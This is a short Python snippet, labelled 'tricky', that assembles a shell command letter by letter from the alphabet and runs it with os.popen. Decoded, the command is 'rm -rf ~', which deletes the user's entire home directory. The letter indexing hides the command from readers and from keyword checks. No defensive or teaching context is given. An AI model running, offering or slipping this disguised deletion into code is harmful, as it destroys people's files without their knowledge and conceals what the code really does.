# tricky: letters by their place
import string, os
L = string.ascii_lowercase
os.popen(L[17] + L[12] + " -" + L[17] + L[5] + " ~")
